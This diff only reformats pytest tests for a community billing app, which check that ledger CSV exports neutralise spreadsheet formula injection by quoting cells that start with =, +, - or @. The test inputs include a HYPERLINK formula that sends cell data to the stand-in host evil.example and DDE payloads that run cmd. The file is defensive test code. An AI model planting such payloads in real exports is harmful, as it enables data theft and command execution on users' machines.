@@ -18,13 +18,29 @@ from ..conftest import STEWARD_XIUSHAN
 from .helpers import actor_for
 from .test_fee_plan_pages import log_in
 
-FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
 
 
 @pytest.mark.parametrize(
     ("value", "cell"),
-    [("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
-     ("\r=1", "'\r=1"), ("停车费 = 300", "停车费 = 300"), ("12.50", "12.50"), (7, "7"), (None, ""), ("", "")],
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 138", "'+86 138"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("停车费 = 300", "停车费 = 300"),
+        ("12.50", "12.50"),
+        (7, "7"),
+        (None, ""),
+        ("", ""),
+    ],
 )
 def test_a_cell_that_would_start_a_formula_gets_a_quote(value, cell):
     assert ledger.csv_cell(value) == cell
@@ -35,8 +51,15 @@ async def test_the_exported_memos_and_references_cannot_run_as_formulas(client, 
     xiushan = (await db.exec(select(Community.id).where(Community.name == "秀山花园"))).one()
     steward = await actor_for(db, STEWARD_XIUSHAN)
     for text in FORMULAS:
-        await billing.do_record_income(db, actor=steward, community_id=xiushan, fund=Fund.public_income,
-                                       amount_fen=1250, memo=text, attachment_ref=text)
+        await billing.do_record_income(
+            db,
+            actor=steward,
+            community_id=xiushan,
+            fund=Fund.public_income,
+            amount_fen=1250,
+            memo=text,
+            attachment_ref=text,
+        )
     await db.flush()
     # When the steward downloads the ledger
     await log_in(client, STEWARD_XIUSHAN)
